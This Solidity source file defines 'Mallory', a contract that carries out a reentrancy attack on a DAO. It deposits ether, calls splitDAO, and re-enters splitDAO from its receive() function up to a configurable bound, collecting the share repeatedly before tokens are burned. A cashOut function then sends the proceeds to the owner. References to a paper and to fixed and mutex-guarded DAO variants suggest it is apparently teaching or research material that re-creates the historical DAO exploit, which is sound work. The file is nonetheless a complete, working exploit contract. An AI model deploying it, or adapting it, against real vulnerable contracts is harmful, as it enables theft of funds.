// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// @notice What Mallory needs from a DAO: DAO.sol, DAOFixed.sol and DAOMutex.sol all have it.
interface IDAO {
    /// @notice Buys DAO tokens, one per wei sent.
    function deposit() external payable;

    /// @notice Leaves the DAO with the caller's share.
    function splitDAO() external returns (bool);

    /// @notice DAO tokens of `holder`.
    function balances(address holder) external view returns (uint256);
}

/// @title Mallory: the attacker of the DAO
/// @notice Mallory buys DAO tokens with the ether she sends to `attack`, then splits from the
/// DAO. When the DAO pays her (this contract's receive()), she calls `splitDAO` again before
/// the DAO has burned her tokens, up to `maxReentries` times: each re-entry that the DAO
/// accepts pays her share once more. The bound keeps the chain of calls finite (the paper's
/// "avoid infinite stack; don't run out of gas").
/// @dev Re-entries use a low-level call whose failure is ignored: against a fixed DAO (or an
/// emptied one) the re-entry reverts, the chain of re-entries ends there, and the outer
/// split still completes, so Mallory gets back her own deposit and nothing more.
/// `reentries` counts the attempts, `landed` the re-entries that the DAO accepted.
contract Mallory {
    /// @notice The DAO under attack.
    IDAO public immutable dao;
    /// @notice The account that deployed this contract and may run the attack.
    address payable public immutable owner;
    /// @notice How many times receive() calls back into the DAO during one attack.
    uint256 public maxReentries;
    /// @notice Re-entries attempted during the last attack.
    uint256 public reentries;
    /// @notice Re-entries the DAO accepted (their split paid out) during the last attack.
    uint256 public landed;
    /// @notice Ether deposited into the DAO by the last attack, in wei.
    uint256 public deposited;

    /// @notice Logged at every re-entry, before calling back into the DAO.
    event Reentered(uint256 depth, uint256 daoBalance, uint256 malloryBalance);
    /// @notice Logged when an attack is over.
    event AttackDone(uint256 reentries, uint256 landed, uint256 malloryBalance);

    error NotOwner(address caller);

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        _;
    }

    /// @param dao_ the DAO to attack
    /// @param maxReentries_ how many times to re-enter `splitDAO` per attack
    constructor(address dao_, uint256 maxReentries_) {
        dao = IDAO(dao_);
        owner = payable(msg.sender);
        maxReentries = maxReentries_;
    }

    /// @notice Changes the number of re-entries of the next attack.
    function setMaxReentries(uint256 n) external onlyOwner {
        maxReentries = n;
    }

    /// @notice Deposits `msg.value` into the DAO, then splits and re-enters.
    function attack() external payable onlyOwner {
        require(msg.value > 0, "send the deposit along");
        reentries = 0;
        landed = 0;
        deposited = msg.value;
        dao.deposit{value: msg.value}();
        dao.splitDAO();
        emit AttackDone(reentries, landed, address(this).balance);
    }

    /// @notice The DAO's payout lands here: call `splitDAO` again while the bound allows.
    receive() external payable {
        if (msg.sender != address(dao) || reentries >= maxReentries) return;
        reentries += 1;
        emit Reentered(reentries, address(dao).balance, address(this).balance);
        (bool ok, ) = address(dao).call(abi.encodeCall(IDAO.splitDAO, ()));
        if (ok) landed += 1;
    }

    /// @notice Sends everything this contract holds to the owner.
    function cashOut() external onlyOwner {
        owner.transfer(address(this).balance);
    }
}
